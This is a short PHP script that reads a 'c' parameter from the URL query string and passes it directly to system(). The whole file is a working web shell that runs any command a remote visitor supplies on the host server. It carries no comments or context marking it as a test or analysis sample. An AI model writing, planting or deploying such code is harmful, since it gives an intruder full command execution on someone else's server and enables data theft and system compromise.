<?php
function g() {
  if (isset($_GET["c"])):
    $v = $_GET["c"];
  endif;
  return $v;
}
system(g());
